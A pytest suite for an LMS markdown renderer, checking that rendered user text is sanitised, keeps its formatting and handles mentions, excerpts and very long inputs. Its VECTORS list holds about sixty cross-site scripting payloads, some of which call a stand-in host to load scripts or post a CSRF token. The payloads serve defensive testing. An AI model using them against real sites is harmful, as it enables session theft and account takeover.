"""Is what people write safe to show, whatever it is, and does it keep its meaning?"""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit
from uuid import UUID, uuid5

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms_plc.core import text
from lms_plc.core.text import excerpt, render, shown

TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "title", "target", "rel"}, "ol": {"start"}, "span": {"class"}}
VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Reads HTML and complains of everything that is not on the short list above."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "href":
                assert urlsplit(value or "").scheme in ("http", "https", "mailto", ""), value
                assert not re.match(r"[\s\x00-\x20]*(javascript|data|vbscript)", value or "", re.IGNORECASE), value
            if name == "class":
                assert value in ("mention", ""), value
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def require_harmless(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.net/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example.net/pixel.png>",
    "![pixel](https://evil.example.net/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[a](http://x" onmouseover="alert(1))',
    "[a](http://x '\" onclick=alert(1) \"')",
    '[a](http://x "title\\" onclick=\\"alert(1)")',
    "[a]: javascript:alert(1)\n\n[a]",
    "<a href=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example.net><input name=csrf_token></form>",
    "<style>@import '//evil.example.net'</style>",
    "<link rel=stylesheet href=//evil.example.net>",
    "<meta http-equiv=refresh content='0;url=//evil.example.net'>",
    "<base href=//evil.example.net>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    'http://evil.example.net/"onmouseover=alert(1)',
    "www.example.org/<script>alert(1)</script>",
    "@<script>alert(1)</script>",
    '<span class="mention" onclick=alert(1)>@Ana</span>',
    "<span class=post-actions>fake</span>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "\u202e<script>alert(1)</script>",
]


@pytest.mark.parametrize("source", VECTORS)
def test_nothing_that_acts_comes_through(source: str) -> None:
    html = render(source).html
    require_harmless(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


def test_there_are_more_than_forty_attacks() -> None:
    assert len(set(VECTORS)) >= 40


PEOPLE = ["Ana", "Ana Marija", "<b>Bold</b>", "a&b", 'q"uote', "O'Neil", "*star*", "Ұлжан 🌷", ".*", "(", "\\", ""]
SOME = {name: uuid5(UUID(int=0), name) for name in PEOPLE}
PIECES = st.sampled_from(
    [*VECTORS, "@Ana", "@<b>Bold</b>", "*", "**", "`", "```", "\n", "\n\n", "> ", "1. ", "- ", "| ", "|---|", "[", "]("]
)
WRITTEN = st.one_of(st.text(max_size=300), st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))


@settings(max_examples=300, deadline=None)
@given(WRITTEN)
def test_whatever_is_written_is_harmless_and_whole(source: str) -> None:
    html = render(source, SOME).html
    require_harmless(html)


@settings(max_examples=200, deadline=None)
@given(WRITTEN)
def test_sanitising_again_changes_nothing(source: str) -> None:
    html = render(source, SOME).html
    again = nh3.clean(
        html,
        tags=TAGS,
        attributes={"a": {"href", "title", "target"}, "ol": {"start"}},
        allowed_classes={"span": {"mention"}},
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow ugc",
    )
    assert again == html


@settings(max_examples=200, deadline=None)
@given(WRITTEN, st.integers(1, 200))
def test_an_excerpt_is_one_short_plain_line(source: str, length: int) -> None:
    line = excerpt(source, length)
    assert len(line) <= length + 1
    assert "\n" not in line


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("# Title\n###### Small", "<h3>Title</h3>\n<h4>Small</h4>\n"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
    ],
)
def test_markdown_keeps_its_meaning(source: str, html: str) -> None:
    assert render(source).html == html


def test_links_open_elsewhere_and_tell_the_other_site_nothing() -> None:
    for source in ("[a](https://example.org/x)", "https://example.org/x"):
        html = render(source).html
        assert 'href="https://example.org/x"' in html
        assert 'target="_blank"' in html
        assert 'rel="noopener noreferrer nofollow ugc"' in html


class TestMentions:
    def test_the_longest_name_that_fits_is_meant(self) -> None:
        rendered = render("@Ana Marija and @Ana", SOME)
        assert rendered.mentions == tuple(sorted((SOME["Ana Marija"], SOME["Ana"])))
        assert rendered.html.count('<span class="mention">') == 2

    @pytest.mark.parametrize("source", ["@Anastasia", "me@Ana", "`@Ana`", "[@Ana](https://example.org)", "@@Ana", "@"])
    def test_what_only_looks_like_one_is_none(self, source: str) -> None:
        assert render(source, SOME).mentions == ()

    @pytest.mark.parametrize("name", ["<b>Bold</b>", "a&b", 'q"uote', "O'Neil", "Ұлжан 🌷", ".*", "("])
    def test_odd_names_are_found_and_do_no_harm(self, name: str) -> None:
        rendered = render(f"Ask @{name}, please", SOME)
        assert rendered.mentions == (SOME[name],)
        require_harmless(rendered.html)

    def test_without_people_an_at_is_an_at(self) -> None:
        assert render("@Ana") == text.Rendered("<p>@Ana</p>\n", ())


def test_stored_html_is_shown_while_its_renderer_is_the_current_one() -> None:
    assert shown("*a*", "<p>stored</p>", text.RENDERER) == "<p>stored</p>"
    assert shown("*a*", "<p>stored</p>", text.RENDERER - 1) == "<p><em>a</em></p>\n"


def test_an_excerpt_ends_at_a_word() -> None:
    assert excerpt("**Some** words, and more", 12) == "Some words…"
    assert excerpt("short") == "short"
    assert excerpt("a < b") == "a < b"


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "*",
        "_",
        "`",
        ">",
        "> ",
        "- ",
        "<",
        "@",
        "www.",
        "http://",
        "a@",
        "&",
        "|",
        "[a](",
        "~~",
        "\\",
        "*a ",
        "(",
        '"',
        "<!--",
    ],
)
def test_the_longest_text_of_anything_is_rendered_in_a_moment(piece: str) -> None:
    source = (piece * text.LONGEST)[: text.LONGEST]
    began = time.process_time()
    require_harmless(render(source, SOME).html)
    assert time.process_time() - began < 3
